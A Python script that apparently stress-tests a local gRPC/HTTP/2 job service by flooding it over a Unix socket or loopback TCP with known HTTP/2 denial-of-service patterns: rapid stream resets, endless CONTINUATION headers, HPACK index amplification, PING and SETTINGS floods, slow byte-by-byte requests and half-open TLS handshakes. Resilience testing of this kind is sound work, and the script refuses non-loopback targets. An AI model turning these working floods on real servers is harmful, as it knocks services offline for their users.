#!/usr/bin/env python3
"""Floods of HTTP/2, by many connections of one client that knows no limit.

  floods.py KIND (--unix PATH | --tcp 127.0.0.1:PORT [--source ADDRESS])
            [--connections N] [--seconds N] [--become USER,GROUP...]

KIND: rapid: opens calls and takes them back. string: one header's value without
an end. noack: calls with large headers, and no answer to SETTINGS. pings: PING
and SETTINGS. halves: greetings without an end, of TLS on the port. slow: a call,
byte by byte. connects: connections without a byte. indexes: headers of a byte each
that name a long value of the table. Over TCP it speaks TLS and shows no certificate. It connects again
whenever its connection is closed. Prints what it did, as JSON.
"""

import argparse
import itertools
import json
import os
import select
import socket
import ssl
import struct
import threading
import time

KINDS = ('rapid', 'string', 'noack', 'pings', 'halves', 'slow', 'connects',
         'indexes')
PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
DATA, HEADERS, RESET, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_HEADERS = 4


def frame(kind, flags, stream, payload):
    return (struct.pack('>I', len(payload))[1:] +
            struct.pack('>BBI', kind, flags, stream) + payload)


def text(word):
    assert len(word) < 127
    return bytes([len(word)]) + word


def block(*more):
    fields = [(b':method', b'POST'), (b':scheme', b'http'),
              (b':path', b'/fgnn.v1.JobService/WatchJob'),
              (b':authority', b'localhost'), (b'te', b'trailers'),
              (b'content-type', b'application/grpc'),
              (b'grpc-timeout', b'9S'), *more]
    return b''.join(b'\x00' + text(key) + text(value) for key, value in fields)


GREETING = PREFACE + frame(SETTINGS, 0, 0, b'')
BLOCK = block()
LARGE = block(*((b'x-%d' % i, b'y' * 120) for i in range(110)))


def streams(make):
    """Bytes of 200 calls after the other."""
    for first in itertools.count(1, 400):
        yield b''.join(make(stream) for stream in range(first, first + 400, 2))


def rapid():
    return streams(lambda stream: frame(HEADERS, END_HEADERS, stream, BLOCK) +
                   frame(RESET, 0, stream, struct.pack('>I', 8)))


def noack():
    return streams(lambda stream: frame(HEADERS, END_HEADERS, stream, LARGE))


def string():
    # A literal header whose value has 256 MiB.
    yield frame(HEADERS, 0, 1, BLOCK + b'\x00' + text(b'x') +
                b'\x7f\x81\xff\xff\x7f')
    yield from itertools.repeat(frame(CONTINUATION, 0, 1, b'a' * 16384))


def pings():
    return itertools.repeat((frame(PING, 0, 0, b'12345678') +
                             frame(SETTINGS, 0, 0, b'\0\4\0\0\xff\xff')) * 200)


def indexes():
    # The first call puts the value into the table; 16,000 more bytes name it.
    long = b'\x40' + text(b'x') + b'\x7f\xc1\x1e' + b'y' * 4000
    yield frame(HEADERS, END_HEADERS, 1, BLOCK + long)
    yield from streams(lambda stream: frame(
        HEADERS, END_HEADERS, stream + 2, BLOCK + b'\xbe' * 16000))


class Flooder(threading.Thread):
    """One connection after the other."""

    def __init__(self, options, until):
        super().__init__(daemon=True)
        self.options = options
        self.until = until
        self.connections = 0
        self.refused = 0
        self.bytes = 0
        self.tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self.tls.check_hostname = False
        self.tls.verify_mode = ssl.CERT_NONE
        self.tls.set_alpn_protocols(['h2'])

    def run(self):
        attack = getattr(self, self.options.kind, self.flood)
        while time.monotonic() < self.until:
            try:
                with self.connect() as connection:
                    self.connections += 1
                    attack(connection)
            except (OSError, ValueError):
                self.refused += 1
                time.sleep(0.001)

    def connect(self):
        if self.options.unix:
            connection = socket.socket(socket.AF_UNIX)
            connection.settimeout(3)
            try:
                connection.connect(self.options.unix)
            except BaseException:
                connection.close()
                raise
            return connection
        host, _, port = self.options.tcp.rpartition(':')
        return socket.create_connection(
            (host, int(port)), 3, source_address=(self.options.source, 0))

    def secure(self, connection):
        if self.options.unix:
            return connection
        return self.tls.wrap_socket(connection)

    def send(self, connection, data):
        connection.sendall(data)
        self.bytes += len(data)
        # What comes back is not kept waiting.
        while select.select([connection], [], [], 0)[0]:
            if not connection.recv(65536):
                raise OSError('closed')

    def flood(self, connection):
        make = {'rapid': rapid, 'string': string, 'noack': noack,
                'pings': pings, 'indexes': indexes}[self.options.kind]
        with self.secure(connection) as stream:
            self.send(stream, GREETING)
            for data in make():
                if time.monotonic() > self.until:
                    return
                self.send(stream, data)

    def halves(self, connection):
        if self.options.unix:
            self.send(connection, PREFACE[:20])
        else:
            incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
            half = self.tls.wrap_bio(incoming, outgoing)
            try:
                half.do_handshake()
            except ssl.SSLWantReadError:
                pass
            self.send(connection, outgoing.read())
        time.sleep(0.01)

    def connects(self, connection):
        pass

    def slow(self, connection):
        with self.secure(connection) as stream:
            self.send(stream, GREETING)
            for data in frame(HEADERS, END_HEADERS, 1, BLOCK):
                if time.monotonic() > self.until:
                    return
                self.send(stream, bytes([data]))
                time.sleep(1)


def parse():
    parser = argparse.ArgumentParser(description=__doc__.split('\n')[0])
    parser.add_argument('kind', choices=KINDS)
    where = parser.add_mutually_exclusive_group(required=True)
    where.add_argument('--unix')
    where.add_argument('--tcp')
    parser.add_argument('--source', default='127.0.0.2')
    parser.add_argument('--become', help='numbers, of a user other than root')
    parser.add_argument('--connections', type=int, default=40)
    parser.add_argument('--seconds', type=float, default=5)
    options = parser.parse_args()
    if options.tcp and not options.tcp.startswith('127.'):
        parser.error('--tcp: only the loopback is flooded')
    return options


def main():
    options = parse()
    if options.become:
        user, *groups = map(int, options.become.split(','))
        os.setgroups(groups)
        os.setgid(groups[0])
        os.setuid(user)
    until = time.monotonic() + options.seconds
    crowd = [Flooder(options, until) for _ in range(options.connections)]
    for flooder in crowd:
        flooder.start()
    for flooder in crowd:
        flooder.join(options.seconds + 10)
    print(json.dumps({name: sum(getattr(each, name) for each in crowd)
                      for name in ('connections', 'refused', 'bytes')}))


if __name__ == '__main__':
    main()
